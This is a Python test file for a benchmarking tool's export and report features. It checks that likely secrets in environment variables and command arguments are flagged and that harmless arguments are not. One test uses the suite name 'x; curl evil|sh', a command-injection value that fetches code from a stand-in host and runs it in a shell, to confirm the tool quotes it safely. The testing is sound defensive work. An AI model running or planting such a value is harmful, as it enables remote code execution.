"""Secrets are named before a bundle or a report leaves, and names from elsewhere are shown as what they are."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from paceline.analysis.rows.table_rows import table_rows
from paceline.bundles import messages
from paceline.bundles.exporting import export_bundle
from paceline.bundles.importing import import_bundle
from paceline.bundles.selection import BundleRequest
from paceline.plan.external.command import ExternalCommand, OutputMetric
from paceline.report.page.report_page import write_report
from paceline.report.tables.render import text
from paceline.store.store import Store
from paceline.system.errors import UserError
from tests.bundles.made import ALL, FIRST, elsewhere, of_machine, save, timed
from tests.factories.machines import machine
from tests.factories.runs import CELL, save_plan


@pytest.mark.parametrize("name", ["TF_TOKEN_x", "KERAS_AUTH", "TF_ACCESS_KEY_ID", "MXNET_PWD", "TF_VAR_x"])
def test_variable_that_may_be_a_secret_stops_the_export(source: Store, tmp_path: Path, name: str) -> None:
    secret = msgspec.structs.replace(of_machine("20250103-000001-eeeeee", "four", machine()), environment={name: "s"})
    save(source, secret)
    with pytest.raises(UserError, match=f"has kept the variable {name}, which may be a secret"):
        export_bundle(source, ALL, tmp_path / "bundle.zip")
    assert export_bundle(source, BundleRequest(runs=[FIRST]), tmp_path / "bundle.zip").runs == 1


def test_measured_command_moves_with_what_it_printed(tmp_path: Path) -> None:
    source, target = Store(tmp_path / "source"), Store(tmp_path / "target")
    speed = OutputMetric(name="images/s", pattern="Speed: ([0-9]+)", take="median")
    timed(source, ExternalCommand(arguments=("train.py", "--wandb-token=abc"), folder="/home/me", metrics=(speed,)))
    assert export_bundle(source, BundleRequest(), tmp_path / "bundle.zip").doubtful == ("--wandb-token",)
    import_bundle(tmp_path / "bundle.zip", target)
    assert text(table_rows(target, {}), 100) == text(table_rows(source, {}), 100)
    assert target.query("SELECT value FROM value WHERE name = 'images_per_second'")[0]["value"] == 100.0


def test_secret_of_another_command_of_the_plan_is_named(tmp_path: Path) -> None:
    store = Store(tmp_path / "source")
    timed(store, ExternalCommand(arguments=("a.py",), folder="/home/me", metrics=()))
    save_plan(store, {CELL: ["never-run"]}, suite="time", command="paceline time -- a.py --- b.py --api-key K")
    assert export_bundle(store, ALL, tmp_path / "bundle.zip").doubtful == ("--api-key",)


@pytest.mark.parametrize(
    ("words", "doubtful"),
    [
        (("--api-key", "x"), "--api-key"),
        (("--private-key=x",), "--private-key"),
        (("--access_key", "x"), "--access_key"),
        (("--auth", "x"), "--auth"),
        (("--pwd", "x"), "--pwd"),
        (("env", "API_KEY=x", "train"), "API_KEY"),
        (("train", "logger.token=x"), "logger.token"),
        (("sh", "-c", "cd there && train --api-key x"), "--api-key"),
        (("train", "--data", "https://me:pass@host/data"), "a password in an address"),
    ],
)
def test_argument_that_may_be_a_secret_is_named(tmp_path: Path, words: tuple[str, ...], doubtful: str) -> None:
    store, path = Store(tmp_path / "store"), tmp_path / "bundle.zip"
    timed(store, ExternalCommand(arguments=words, folder="/home/me"))
    written = export_bundle(store, BundleRequest(), path)
    assert written.doubtful == (doubtful,)
    assert f"A command in it has {doubtful}: whoever gets" in messages.written(written, path)


def test_report_names_what_a_bundle_names(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    words = ("sh", "-c", "train --api-key x", "--data", "https://me:pass@host/data")
    timed(store, ExternalCommand(arguments=words, folder="/home/me"))
    told, warned = write_report(store.folder, {}, None, tmp_path / "report.html").splitlines()
    assert told.startswith(f"{tmp_path / 'report.html'}: 1 cell")
    named = "--api-key, a password in an address"
    assert warned == f"A command in it has {named}: whoever gets the report can read what stands there."


def test_harmless_arguments_are_not_named(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    words = ("train", "--keys=3", "key-token.txt", "https://host/a:b", "--monkey", "me@host:/data")
    timed(store, ExternalCommand(arguments=words, folder="/home/me"))
    assert export_bundle(store, BundleRequest(), tmp_path / "bundle.zip").doubtful == ()
    assert len(write_report(store.folder, {}, None, tmp_path / "report.html").splitlines()) == 1


def test_name_of_a_suite_is_no_command_of_its_own(tmp_path: Path) -> None:
    """The line is there to be copied into a shell."""
    source, path = Store(tmp_path / "source"), tmp_path / "bundle.zip"
    save_plan(source, {CELL: ["one"]}, suite="x; curl evil|sh")
    save(source, of_machine(FIRST, "one", elsewhere()))
    export_bundle(source, ALL, path)
    said = messages.taken(import_bundle(path, Store(tmp_path / "target")), path)
    assert said.splitlines()[-1] == "paceline show --suite 'x; curl evil|sh'"
